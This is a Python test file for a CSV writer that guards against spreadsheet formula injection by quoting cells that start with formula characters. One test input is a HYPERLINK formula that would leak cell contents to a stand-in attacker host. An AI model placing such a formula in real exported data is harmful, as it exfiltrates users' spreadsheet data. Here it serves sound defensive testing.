"""The one CSV writer: every cell a spreadsheet would read as a formula becomes text."""

import csv
import io

import pytest

from app.cli.spreadsheet import write_csv


def written(*rows: list[str]) -> list[list[str]]:
    output = io.StringIO()
    write_csv(output, ["a", "b"], rows)
    return list(csv.reader(io.StringIO(output.getvalue(), newline="")))[1:]


@pytest.mark.parametrize("cell", ["=1+1", "+880", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
                                  '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'])
def test_a_cell_that_could_start_a_formula_is_prefixed_with_a_quote(cell):
    assert written([cell, "x"]) == [["'" + cell, "x"]]


@pytest.mark.parametrize("cell", ["Rahim Uddin", "Dr. Karim", "a=b", "2026-11-26", "", "'=1",
                                  " =1+1"])
def test_any_other_cell_is_written_as_it_is(cell):
    assert written([cell, "x"]) == [[cell, "x"]]
